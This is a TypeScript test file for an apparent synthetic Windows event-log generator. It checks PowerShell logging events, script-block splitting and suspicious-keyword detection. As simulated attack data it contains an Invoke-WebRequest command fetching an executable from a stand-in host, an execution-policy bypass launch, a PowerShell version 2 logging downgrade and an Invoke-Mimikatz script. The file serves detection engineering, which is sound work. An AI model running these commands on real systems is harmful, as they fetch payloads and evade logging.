import { describe, expect, it } from "vitest";
import type { ActionInput } from "../../actions";
import { fieldValue, type WinEvent } from "../../event";
import { generateChannels } from "../../formats/ecs-fixture";
import { generate } from "../../generate";
import { Rng } from "../../rng";
import { requestsVersion2 } from "./host";
import { splitScriptBlock, suspiciousMatch } from "./scriptblock";
import {
  engineLifecycle,
  pipelineDetail,
  pipelineExecution,
  providerLifecycle,
  scriptBlockVerbose,
  scriptBlockWarning,
} from "./templates";

const psImage = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

function run(plan: ActionInput[], seed = 9): WinEvent[] {
  const { events, labels } = generate(
    { seed, noise: { level: "none" }, steps: [{ technique: "T1059.001", plan }] },
    { procedures: [] },
  );
  return events.filter((_, i) => labels[i].step === 0);
}

/** A fixed segment size: rng.int(0, 9999) → 0 gives 10,000-character segments. */
const fixedRng = Object.assign(Object.create(Rng.prototype) as Rng, { int: () => 0 });

describe("script block splitting (CompiledScriptBlock.LogScriptBlockCreation)", () => {
  it("keeps texts under 20,000 characters in one event", () => {
    expect(splitScriptBlock("a".repeat(19_999), new Rng(1))).toEqual(["a".repeat(19_999)]);
  });

  it("cuts longer texts into 10,000 + random(0..9,999) segments that rejoin to the text", () => {
    const text = Array.from({ length: 6_000 }, (_, i) => `$v${i};`).join("");
    for (let seed = 1; seed <= 20; seed++) {
      const parts = splitScriptBlock(text, new Rng(seed));
      expect(parts.join("")).toBe(text);
      const size = parts[0].length;
      expect(size).toBeGreaterThanOrEqual(10_000);
      expect(size).toBeLessThan(20_000);
      expect(parts.length).toBe(Math.floor(text.length / size) + 1);
      parts.slice(0, -1).forEach((p) => expect(p.length).toBe(size));
    }
  });

  it("leaves an empty last segment when the length is an exact multiple, as Windows does", () => {
    const parts = splitScriptBlock("x".repeat(30_000), fixedRng);
    expect(parts.map((p) => p.length)).toEqual([10_000, 10_000, 10_000, 0]);
  });

  it("flags PowerShell's suspicious words case-insensitively", () => {
    expect(suspiciousMatch("[System.Convert]::frombase64string($x)")).toBe("frombase64string");
    expect(suspiciousMatch("$k = [Runtime.InteropServices.Marshal]::AllocHGlobal(8)")).not.toBeNull();
    expect(suspiciousMatch("Get-ChildItem C:\\Users | Select-Object Name")).toBeNull();
  });

  it("recognises -Version 2 in any unambiguous abbreviation", () => {
    expect(requestsVersion2("powershell.exe -version 2 -c calc")).toBe(true);
    expect(requestsVersion2("powershell -v 2.0 -nop")).toBe(true);
    expect(requestsVersion2("powershell.exe -ver 2")).toBe(true);
    expect(requestsVersion2("powershell.exe -verb runas")).toBe(false);
  });
});

describe("PowerShell renderer", () => {
  it("has the System parts of real 4104/4103/400/600/800 events", () => {
    const guid = "A0C1853B-5C40-4B15-8766-3CF1C58F985A";
    expect([
      scriptBlockVerbose.provider.guid,
      scriptBlockVerbose.version,
      scriptBlockVerbose.level,
      scriptBlockVerbose.task,
    ]).toEqual([guid, 1, 5, 2]);
    expect([scriptBlockVerbose.opcode, scriptBlockVerbose.keywords, scriptBlockWarning.level]).toEqual([
      15,
      "0x0",
      3,
    ]);
    expect(scriptBlockVerbose.fields.map((f) => f.name)).toEqual([
      "MessageNumber",
      "MessageTotal",
      "ScriptBlockText",
      "ScriptBlockId",
      "Path",
    ]);
    expect([
      pipelineDetail.task,
      pipelineDetail.opcode,
      pipelineDetail.level,
      pipelineDetail.keywords,
    ]).toEqual([106, 20, 4, "0x0"]);
    expect(pipelineDetail.fields.map((f) => f.name)).toEqual(["ContextInfo", "UserData", "Payload"]);
    for (const [t, task] of [
      [engineLifecycle, 4],
      [providerLifecycle, 6],
      [pipelineExecution, 8],
    ] as const) {
      expect([t.provider, t.qualifiers, t.level, t.task, t.keywords, t.channel]).toEqual([
        { name: "PowerShell" },
        0,
        4,
        task,
        "0x80000000000000",
        "Windows PowerShell",
      ]);
      expect(t.fields.map((f) => f.name)).toEqual([null, null, null]);
    }
  });

  const events = generateChannels(31).events;
  const sysmon1 = events.find((e) => e.template.eventId === 1 && fieldValue(e, "Image") === psImage)!;

  it("logs engine start like 5.1: six providers (600) then Available (400), sequence 1…13, from the host process", () => {
    const classic = events.filter((e) => e.template.channel === "Windows PowerShell");
    const start = classic.filter((e) => e.template === providerLifecycle || e.template === engineLifecycle);
    expect(start.map((e) => e.data[0])).toEqual([
      "Registry",
      "Alias",
      "Environment",
      "FileSystem",
      "Function",
      "Variable",
      "Available",
    ]);
    expect(start.map((e) => Number(/SequenceNumber=(\d+)/.exec(String(e.data[2]))![1]))).toEqual([
      1, 3, 5, 7, 9, 11, 13,
    ]);
    for (const e of start) {
      expect(e.processId).toBe(fieldValue(sysmon1, "ProcessId"));
      expect([e.threadId, e.userId, e.activityId]).toEqual([0, null, null]);
      expect(String(e.data[2])).toContain(`\r\n\tHostApplication=${fieldValue(sysmon1, "CommandLine")}\r\n`);
      expect(e.timeUs).toBeGreaterThan(sysmon1.timeUs);
    }
    expect(String(start[0].data[2])).toContain("\tEngineVersion=\r\n\tRunspaceId=\r\n");
    expect(String(start[6].data[2])).toMatch(
      /^\tNewEngineState=Available\r\n\tPreviousEngineState=None\r\n\r\n\tSequenceNumber=13\r\n\r\n\tHostName=ConsoleHost\r\n\tHostVersion=5\.1\.\d+\.\d+\r\n/,
    );
    const stop = classic.find((e) => e.template.eventId === 403)!;
    expect(stop.data.slice(0, 2)).toEqual(["Stopped", "Available"]);
  });

  it("writes 4104 as the user, from the PowerShell process, and 4103 + 800 with one sequence number", () => {
    const sb = events.find((e) => e.template === scriptBlockVerbose)!;
    expect(sb.data.slice(0, 2)).toEqual([1, 1]);
    expect(String(sb.data[3])).toMatch(
      /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/,
    );
    expect(sb.processId).toBe(fieldValue(sysmon1, "ProcessId"));
    expect(sb.userId).toMatch(/^S-1-5-21-/);
    expect(sb.activityId).toMatch(/^[0-9A-F]{8}-[0-9A-F]{4}-[0-9A-F]{4}-[0-9A-F]{4}-[0-9A-F]{12}$/);
    const m = events.find((e) => e.template === pipelineDetail)!;
    const ctx = String(m.data[0]);
    expect(ctx).toMatch(/^ {8}Severity = Informational\r\n {8}Host Name = ConsoleHost\r\n/);
    expect(ctx).toContain("        Command Name = Invoke-WebRequest\r\n        Command Type = Cmdlet\r\n");
    expect(ctx.endsWith("        Shell ID = Microsoft.PowerShell\r\n")).toBe(true);
    expect(m.data[2]).toBe(
      'CommandInvocation(Invoke-WebRequest): "Invoke-WebRequest"\r\n' +
        'ParameterBinding(Invoke-WebRequest): name="Uri"; value="http://cdn.example.org/u.exe"\r\n' +
        'ParameterBinding(Invoke-WebRequest): name="OutFile"; value="C:\\Users\\Public\\u.exe"\r\n',
    );
    const detail = events.find((e) => e.template === pipelineExecution)!;
    const seq4103 = /Sequence Number = (\d+)/.exec(ctx)![1];
    expect(String(detail.data[1])).toContain(`\tSequenceNumber=${seq4103}\r\n`);
    expect(detail.data[0]).toBe(
      "Invoke-WebRequest -Uri http://cdn.example.org/u.exe -OutFile C:\\Users\\Public\\u.exe",
    );
    expect(String(detail.data[1]).endsWith(`\tCommandLine=${detail.data[0]}`)).toBe(true);
    expect(detail.data[2]).toBe(m.data[2]);
  });

  it("splits a long script block across MessageNumber/MessageTotal with one ScriptBlockId and Warning level", () => {
    const script = Array.from(
      { length: 3_000 },
      (_, i) => `$b${i} = [Convert]::FromBase64String('QUFB${i}');`,
    ).join("\n");
    const out = run([
      {
        id: "p",
        kind: "process.create",
        proc: "p",
        parent: "@explorer",
        image: psImage,
        commandLine: "powershell.exe -ep bypass",
      },
      {
        id: "s",
        kind: "powershell.scriptblock",
        proc: "p",
        script,
        path: "C:\\Users\\Public\\x.ps1",
        delayMs: 500,
      },
    ]);
    const parts = out.filter((e) => e.template.eventId === 4104);
    expect(parts.length).toBeGreaterThan(1);
    expect(parts.every((e) => e.template === scriptBlockWarning)).toBe(true);
    expect(parts.map((e) => e.data[0])).toEqual(parts.map((_, i) => i + 1));
    expect(new Set(parts.map((e) => e.data[1]))).toEqual(new Set([parts.length]));
    expect(new Set(parts.map((e) => e.data[3])).size).toBe(1);
    expect(parts.map((e) => e.data[2]).join("")).toBe(script);
    expect(parts.every((e) => e.data[4] === "C:\\Users\\Public\\x.ps1")).toBe(true);
  });

  it("a -Version 2 downgrade logs engine 2.0 without HostApplication and no script block", () => {
    const out = run([
      {
        id: "p",
        kind: "process.create",
        proc: "p",
        parent: "@explorer",
        image: psImage,
        commandLine: "powershell.exe -version 2 -nop",
      },
      { id: "s", kind: "powershell.scriptblock", proc: "p", script: "Invoke-Mimikatz", delayMs: 500 },
    ]);
    const start = out.find((e) => e.template === engineLifecycle)!;
    expect(String(start.data[2])).toContain("\tHostVersion=2.0\r\n");
    expect(String(start.data[2])).toContain("\tEngineVersion=2.0\r\n");
    expect(String(start.data[2])).not.toContain("HostApplication");
    expect(/SequenceNumber=(\d+)/.exec(String(start.data[2]))![1]).toBe("9");
    expect(out.some((e) => e.template.eventId === 4104)).toBe(false);
  });
});
